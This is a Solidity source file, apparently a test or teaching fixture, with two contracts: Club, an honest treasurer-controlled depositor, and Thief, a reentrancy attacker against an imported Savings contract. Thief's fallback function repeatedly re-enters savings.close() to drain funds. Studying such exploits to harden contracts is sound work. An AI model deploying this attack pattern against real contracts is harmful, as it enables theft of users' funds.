pragma solidity ^0.4.24;

import "./Savings.sol";

/// @title Club: a contract that saves, honestly.
contract Club {
    Savings public savings;
    address public treasurer;

    modifier onlyTreasurer() {
        require(msg.sender == treasurer, "Club: not the treasurer");
        _;
    }

    constructor(Savings _savings) public {
        savings = _savings;
        treasurer = msg.sender;
    }

    function() public payable {}

    function join() public onlyTreasurer {
        savings.open();
    }

    function save() public payable onlyTreasurer {
        savings.deposit.value(msg.value)();
    }

    function spend(uint256 amount) public onlyTreasurer {
        savings.withdraw(amount);
    }

    function leave() public onlyTreasurer {
        savings.close();
    }
}

/// @title Thief: comes back while it is paid, until the loot is large enough.
contract Thief {
    Savings public savings;
    address public owner;
    uint256 public times;

    constructor(Savings _savings) public {
        savings = _savings;
        owner = msg.sender;
    }

    function() public payable {
        if (times > 0) {
            times -= 1;
            savings.close();
        }
    }

    function prepare() public payable {
        savings.open();
        savings.deposit.value(msg.value)();
    }

    function drain(uint256 _times) public {
        require(msg.sender == owner);
        times = _times;
        savings.close();
    }
}
